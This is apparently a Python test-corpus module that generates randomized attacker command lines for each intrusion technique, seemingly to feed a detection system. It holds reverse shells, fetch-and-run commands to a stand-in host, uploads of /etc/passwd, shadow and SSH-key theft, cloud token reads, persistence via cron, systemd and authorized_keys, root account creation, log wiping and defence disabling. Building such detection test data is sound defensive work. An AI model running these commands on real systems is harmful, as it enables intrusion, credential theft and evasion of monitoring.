"""What each attack technique types: functions that draw the details and give command lines, each for a shell of its own. Harmless on a machine of the corpus."""
# ruff: noqa: E501 - command lines stand as they are typed

from __future__ import annotations

import base64
import random
from typing import Final

from tests.corpus.outside import NEIGHBOUR, PAYLOADS, SHELL_PORTS, STRANGER

SHELLS: Final = ("/bin/sh", "/bin/bash")


def _hidden(rng: random.Random) -> str:
    return rng.choice(
        (
            "/tmp/.X11-unix/x",
            "/tmp/.ICE/sess",
            "/var/tmp/.cache/d",
            "/tmp/kdevtmpfsi",
            "/tmp/.systemd-private/run",
            f"/tmp/{rng.randrange(16**8):08x}",
        )
    )


def webshell(rng: random.Random) -> list[str]:
    return rng.sample(
        (
            "id; uname -a; whoami",
            "cat /etc/passwd",
            "ls -la /",
            "pwd; ls",
            "netstat -tn; w",
            "cat /proc/version; hostname -I",
            "which gcc python3 perl wget curl",
        ),
        rng.randrange(3, 6),
    )


def reverse(rng: random.Random) -> str:
    port = rng.choice(SHELL_PORTS)
    return f"bash -c 'bash -i >& /dev/tcp/{STRANGER}/{port} 0>&1'"


def fetch(rng: random.Random) -> str:
    path = rng.choice(tuple(PAYLOADS))
    return rng.choice(
        (
            f"curl -fsSL http://{STRANGER}{path} | {rng.choice(('sh', 'bash'))}",
            f"wget -qO- http://{STRANGER}:8080{path} | sh",
            f"curl -s http://{STRANGER}{path} -o /tmp/i.sh; sh /tmp/i.sh; rm -f /tmp/i.sh",
        )
    )


def decoded(rng: random.Random) -> str:
    code = rng.choice(
        (
            "id; whoami; cat /etc/hosts",
            "uname -a; ps -ef | head -5; ls -la /tmp",
            "for f in /etc/*release; do cat $f; done; id -un",
        )
    )
    text = base64.b64encode(f"{code} #{rng.randrange(10**6)}".encode()).decode()
    return f"echo {text} | base64 {rng.choice(('-d', '--decode'))} | {rng.choice(('sh', 'bash'))}"


def memfd(rng: random.Random) -> str:
    name = rng.choice(("kworker/u4:2", "[kthreadd]", "sshd", "apache2"))
    return f"""python3 -c "import os; f = os.memfd_create('{rng.choice(("", "x", "a.out"))}'); os.write(f, open('/bin/sleep', 'rb').read()); os.execv('/proc/self/fd/%d' % f, ['{name}', '0.2'])" """


def dropped(rng: random.Random) -> str:
    path = _hidden(rng)
    return f"mkdir -p $(dirname {path}); cp {rng.choice(('/bin/sleep', '/usr/bin/timeout'))} {path}; chmod +x {path}; {path} 0.1; rm -f {path}"


def shm(rng: random.Random) -> str:
    name = rng.choice((".x", "pulse-shm-1", "sem.a", ".ssh-agent"))
    return f"cp /bin/sleep /dev/shm/{name} && chmod 755 /dev/shm/{name} && cd /dev/shm && ./{name} 0.1; rm -f /dev/shm/{name}"


def renamed(rng: random.Random) -> str:
    tool, argument = rng.choice(
        (
            ("openssl", "version"),
            ("curl", f"-s http://{STRANGER}/x"),
            ("perl", "-e 1"),
            ("wget", f"-q http://{STRANGER}/x -O /dev/null"),
            ("python3.11", "-c 1"),
        )
    )
    path = rng.choice(("/tmp/systemd-resolve", "/var/tmp/dbus-daemon", "/tmp/crond", "/var/tmp/kauditd"))
    return f"cp /usr/bin/{tool} {path}; {path} {argument}; rm -f {path}"


def discovery(rng: random.Random) -> list[str]:
    lines = [
        "ps aux",
        "id",
        "ss -tunap",
        "netstat -rn",
        "cat /etc/passwd",
        "uname -a",
        "ip addr",
        "ip neigh",
        "df -h",
        "mount | head",
        "cat /etc/os-release",
        "w",
        "last | head",
        "env",
        "ls -la /home",
        "cat /etc/crontab",
        "lscpu | head -5",
        "getent group",
        "cat /proc/net/arp",
        "find /etc -name '*.conf' | head",
    ]
    return ["; ".join(rng.sample(lines, rng.randrange(7, 13)))]


def setuids(rng: random.Random) -> str:
    return rng.choice(
        (
            "find / -xdev -perm -4000 -type f 2>/dev/null",
            "find / -xdev -perm -u=s -type f -ls 2>/dev/null | head -40",
            "find /usr -perm -4000 -o -perm -2000 2>/dev/null; getcap -r /usr/bin 2>/dev/null",
        )
    )


def shadow(rng: random.Random) -> str:
    return rng.choice(
        (
            "cat /etc/shadow > /tmp/.s; base64 /tmp/.s | head -2; rm /tmp/.s",
            "cp /etc/shadow /var/tmp/.bk && cp /etc/passwd /var/tmp/.bp && tar czf /tmp/c.tgz /var/tmp/.bk /var/tmp/.bp; rm -f /tmp/c.tgz",
            "awk -F: '$2 ~ /^\\$/ {print $1\":\"$2}' /etc/shadow",
        )
    )


def passwords(rng: random.Random) -> str:
    return rng.choice(
        (
            "grep -rniE 'password|passwd|secret' /srv /etc /home 2>/dev/null | head -20",
            "grep -r -i password= / --include=*.conf --include=*.py -l -s 2>/dev/null --exclude-dir=usr --exclude-dir=proc | head",
            "find / -xdev -name '*.env' -o -name .pgpass -o -name .netrc 2>/dev/null | xargs -r cat",
        )
    )


def cron(rng: random.Random) -> str:
    return rng.choice(
        (
            f"echo '*/5 * * * * root curl -s http://{STRANGER}/i.sh | sh' > /etc/cron.d/{rng.choice(('apache', 'sysupdate', '0hourly'))}; chmod 644 /etc/cron.d/*",
            f"(crontab -l; echo '@reboot {_hidden(rng)}') | crontab -",
            f"cp /bin/true /etc/cron.daily/{rng.choice(('man-db2', 'lsb'))}; touch -r /etc/passwd /etc/cron.daily/*",
        )
    )


def key(rng: random.Random) -> str:
    return f"mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{rng.randrange(16**30):030x} x@y' >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys; ls -la ~/.ssh"


def logs(rng: random.Random) -> str:
    return rng.choice(
        (
            "for f in /var/log/*.log; do cat /dev/null > $f; done; rm -f /var/log/wtmp /var/log/btmp",
            "shred -u /var/log/auth.log 2>/dev/null; find /var/log -type f -exec truncate -s 0 {} ';'",
            f"sed -i '/{STRANGER}/d' /var/log/*.log; rm -rf /var/log/journal; dmesg -C",
        )
    )


def setuid(rng: random.Random) -> str:
    path = rng.choice(("/var/tmp/.sh", "/usr/local/bin/ping6", "/tmp/.r"))
    return f"cp /bin/bash {path}; chown root {path}; chmod 4755 {path}; setpriv --reuid 1000 --clear-groups {path} -p -c 'id -u; cat /etc/shadow > /dev/null'; rm -f {path}"


def miner(rng: random.Random) -> str:
    path = rng.choice(("/tmp/xmrig", "/dev/shm/kdevtmpfsi", "/var/tmp/.x/kswapd0", "/tmp/.rsync/a"))
    return f"mkdir -p $(dirname {path}); cp /usr/bin/nc {path}; chmod +x {path}; nohup {path} -o stratum+tcp://pool.example.net:{rng.choice((3333, 4444, 14444))} -u 4{rng.randrange(16**24):024x} -p x -t {rng.choice((2, 4))} --donate-level 1 -B; nproc; rm -f {path}"


def lateral(rng: random.Random) -> str:
    base = f"10.20.0.{rng.randrange(1, 200)}"
    net = base.rsplit(".", 1)[0]
    return rng.choice((
        f'for i in $(seq 1 12); do timeout 1 bash -c "echo > /dev/tcp/{net}.$i/22" 2>/dev/null && echo {net}.$i; done',
        f"for h in 3 4 {NEIGHBOUR.rsplit('.', 1)[1]} 6; do ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 root@{net}.$h id; done",
        f'nc -zv -w1 {NEIGHBOUR} 22 80 443 3306 5432; nmap -sT -p1-1000 {net}.0/24; for p in 22 80 445 8080; do timeout 1 bash -c "</dev/tcp/{NEIGHBOUR}/$p"; done',
    ))  # fmt: skip


def staging(rng: random.Random) -> str:
    out = rng.choice(("/tmp/.d.enc", "/var/tmp/b.bin", "/dev/shm/o"))
    return f"tar czf - /srv /home 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:{rng.randrange(10**6)} -out {out}; split -b 1M {out} {out}.; ls -la {out}*; rm -f {out}*"


def pty(rng: random.Random) -> str:
    shell = rng.choice(SHELLS)
    return f"""printf 'id\\nuname -a\\nls -la /root\\nexit\\n' | python3 -c 'import pty; pty.spawn("{shell}")'"""


def lolbin(rng: random.Random) -> str:
    return rng.choice(
        (
            'awk \'BEGIN {system("/bin/sh -c id"); system("uname -a")}\'',
            "find /etc/hosts -exec /bin/sh -p -c 'id; cat /etc/passwd | head -2' ';'",
            'perl -e \'exec "/bin/sh", "-c", "id; whoami"\'',
            "python3 -c 'import os; os.system(\"id; cat /etc/passwd\")'",
            "env /bin/sh -c 'id; hostname'",
            "echo id | vim -es -c ':!sh -c id' -c q",
            "tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec='sh -c id'",
            "xargs -a /etc/hostname -I{} sh -c 'id; ls -la /'",
        )
    )


def modules(rng: random.Random) -> str:
    return rng.choice(
        (
            "lsmod; cat /proc/modules | head; ls /lib/modules; uname -r; cat /proc/kallsyms | head -1",
            "lsmod | grep -i vbox; find /lib/modules -name '*.ko' 2>/dev/null | head -3; dmesg | grep -i module | tail -2; cat /proc/cmdline",
        )
    )


def escape(rng: random.Random) -> str:
    return rng.choice(
        (
            "nsenter -t 1 -m -u -i -n -p /bin/sh -c 'id; hostname'; ls -la /proc/1/root",
            "unshare -Urm /bin/sh -c 'id; mount -t tmpfs t /mnt; cat /proc/self/status | grep Cap'",
            "cat /proc/1/cgroup; ls /.dockerenv; mount | grep overlay; mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg; fdisk -l; unshare --mount --fork /bin/true; capsh --print",
        )
    )


def upload(rng: random.Random) -> str:
    return rng.choice(
        (
            f"tar czf /tmp/o.tgz /etc/passwd /home 2>/dev/null; curl -s -F f=@/tmp/o.tgz http://{STRANGER}:8080/up; rm /tmp/o.tgz",
            f"curl -s --data-binary @/etc/passwd http://{STRANGER}/c",
            f"for f in /etc/passwd /etc/hosts; do base64 -w0 $f | curl -s -d @- http://{STRANGER}/b; done",
            f"wget -q --post-file=/etc/passwd http://{STRANGER}/p -O /dev/null",
        )
    )


def sudo(rng: random.Random) -> str:
    return rng.choice(
        (
            "sudo -l; id; groups; cat /etc/sudoers; getent group sudo wheel docker",
            "sudo -n true; cat /etc/sudoers.d/* 2>/dev/null; grep -E 'sudo|wheel' /etc/group; ls -la /usr/bin/pkexec",
        )
    )


def elf(rng: random.Random) -> str:
    path = _hidden(rng)
    return f"mkdir -p $(dirname {path}); wget -q http://{STRANGER}/bin/{rng.choice(('x86', 'arm', 'amd64'))} -O {path}; curl -so {path}.1 http://{STRANGER}:8080/m; cp /bin/true {path}; chmod 777 {path}; nohup {path} -c {STRANGER}; rm -f {path} {path}.1"


def hands(rng: random.Random) -> list[str]:
    look = [
        "whoami",
        "id",
        "uname -a",
        "w",
        "ps aux",
        "ss -tlnp",
        "cat /etc/passwd",
        "ls -la /root /home",
        "sudo -l",
        "find / -xdev -perm -4000 2>/dev/null | head",
        "cat ~/.bash_history",
        "ip a; ip route",
        "ls /etc/cron*",
    ]
    do = [
        f"curl -s http://{STRANGER}/i.sh -o /tmp/i.sh",
        "chmod +x /tmp/i.sh; /tmp/i.sh",
        f"wget -q http://{STRANGER}/t -O /dev/shm/t",
        "cat /etc/shadow",
        "history -c",
        f"nc {STRANGER} 4444 -e /bin/sh",
        "echo x >> ~/.ssh/authorized_keys",
        "tar czf /tmp/l.tgz /srv; ls -la /tmp/l.tgz; rm /tmp/l.tgz",
    ]
    return [*rng.sample(look, rng.randrange(4, 8)), *rng.sample(do, rng.randrange(2, 5))]


def preload(rng: random.Random) -> str:
    name = rng.choice(("libselinux.so.8", "libprocesshider.so", "ld.so.x"))
    return f"echo 'int execve_hook(void) {{ return 0; }}' > /tmp/p.c; gcc -shared -fPIC -o /tmp/{name} /tmp/p.c; LD_PRELOAD=/tmp/{name} ls /; echo /tmp/{name} > /tmp/ld.so.preload; rm -f /tmp/p.c /tmp/{name}"


def perl(rng: random.Random) -> str:
    return f"""perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); if (connect(S, sockaddr_in({rng.choice(SHELL_PORTS)}, inet_aton("{STRANGER}")))) {{ open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i"); }}'"""


def insmod(rng: random.Random) -> str:
    return f"mkdir -p /tmp/.k; printf 'obj-m += r.o\\n' > /tmp/.k/Makefile; cd /tmp/.k && make -s; insmod /tmp/.k/{rng.choice(('diamorphine', 'reptile', 'r'))}.ko; lsmod | head -2; rm -rf /tmp/.k"


def service(rng: random.Random) -> str:
    unit = rng.choice(("systemd-networkd-helper", "dbus-org", "sysmon"))
    return f"printf '[Service]\\nExecStart=/tmp/.x\\nRestart=always\\n' > /etc/systemd/system/{unit}.service; systemctl daemon-reload; systemctl enable --now {unit}.service"


def account(rng: random.Random) -> str:
    name = rng.choice(("support", "mysql2", "sysadm"))
    return rng.choice(
        (
            f"useradd -m -o -u 0 -s /bin/bash {name}; usermod -aG sudo {name}; tail -1 /etc/passwd",
            f"echo '{name}:x:0:0::/root:/bin/bash' >> /etc/passwd; grep {name} /etc/passwd; echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/{name}",
        )
    )


def masked(rng: random.Random) -> str:
    return f"bash -c \"exec -a '{rng.choice(('[kworker/0:1]', '[migration/0]', '/usr/sbin/apache2'))}' sleep 0.3\"; bash -c 'exec -a [rcu_gp] python3 -c 1'"


def stomp(rng: random.Random) -> str:
    return f"cp /bin/true /usr/local/bin/{rng.choice(('updated', 'netns'))}; touch -r /bin/ls /usr/local/bin/*; touch -d '2021-01-01 00:00' /tmp; chattr +i /etc/hosts; chattr -i /etc/hosts; stat /usr/local/bin"


def history(rng: random.Random) -> list[str]:
    return [
        "unset HISTFILE",
        "export HISTSIZE=0",
        "ln -sf /dev/null ~/.bash_history",
        rng.choice(("shred -u ~/.zsh_history", "history -cw; rm -f ~/.viminfo")),
        "set +o history",
        "ls -la ~",
    ]


def disable(rng: random.Random) -> str:
    return rng.choice(
        (
            "systemctl stop auditd; systemctl disable --now falco daemoneye; iptables -F; iptables -P INPUT ACCEPT",
            "pkill -x auditd; iptables -F; echo 0 > /proc/sys/kernel/randomize_va_space; setenforce 0; systemctl stop rsyslog",
        )
    )


def metadata(rng: random.Random) -> str:
    return rng.choice(
        (
            "curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/; env | grep -i -E 'aws|token'",
            "wget -qO- -T 1 -t 1 http://169.254.169.254/computeMetadata/v1/instance/ --header 'Metadata-Flavor: Google'; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        )
    )


def keys(rng: random.Random) -> str:
    return rng.choice(
        (
            "find / -xdev -name 'id_*' -o -name '*.pem' 2>/dev/null | grep -v usr | head; cat ~/.ssh/known_hosts; cat /home/*/.ssh/id_*",
            "tar czf /tmp/.k.tgz /home/*/.ssh /root/.ssh /etc/ssh 2>/dev/null; base64 /tmp/.k.tgz | wc -c; rm /tmp/.k.tgz",
        )
    )


def inject(rng: random.Random) -> str:
    return rng.choice(
        (
            "sleep 3 & gdb -q -batch -p $! -ex 'info registers rip' -ex detach; kill $!",
            "sleep 3 & strace -f -o /tmp/.t -p $! & sleep 0.3; kill $(jobs -p); rm -f /tmp/.t",
        )
    )


def profile(rng: random.Random) -> str:
    return f"echo 'nohup /tmp/{rng.choice(('.x', '.sys'))} &' >> ~/.bashrc; echo \"alias sudo='sudo -S'\" >> ~/.profile; tail -2 ~/.bashrc; touch -r /etc/passwd ~/.bashrc"


def sniff(rng: random.Random) -> str:
    return rng.choice(
        (
            "timeout 0.5 tcpdump -i lo -w /tmp/.p.pcap -c 10 port 80; strings /tmp/.p.pcap | grep -i pass; rm -f /tmp/.p.pcap",
            "timeout 0.5 tcpdump -nn -A -i any 'tcp port 21 or tcp port 110'; ip link set lo promisc on; ip link set lo promisc off",
        )
    )


def tunnel(rng: random.Random) -> str:
    return f"rm -f /tmp/s; mkfifo /tmp/s; timeout 2 /bin/sh -i < /tmp/s 2>&1 | timeout 2 openssl s_client -quiet -connect {STRANGER}:{rng.choice(SHELL_PORTS)} > /tmp/s; rm -f /tmp/s"


def rivals(rng: random.Random) -> str:
    return f"for n in {' '.join(rng.sample(('kinsing', 'xmrig', 'kdevtmpfsi', 'watchdogs', 'minerd', 'ksoftirqs'), 4))}; do pkill -9 $n; pgrep $n; done; ps aux | grep -v grep | grep stratum | awk '{{print $2}}' | xargs -r kill -9; netstat -anp | grep :3333; rm -rf /tmp/.ICE-unix/x"
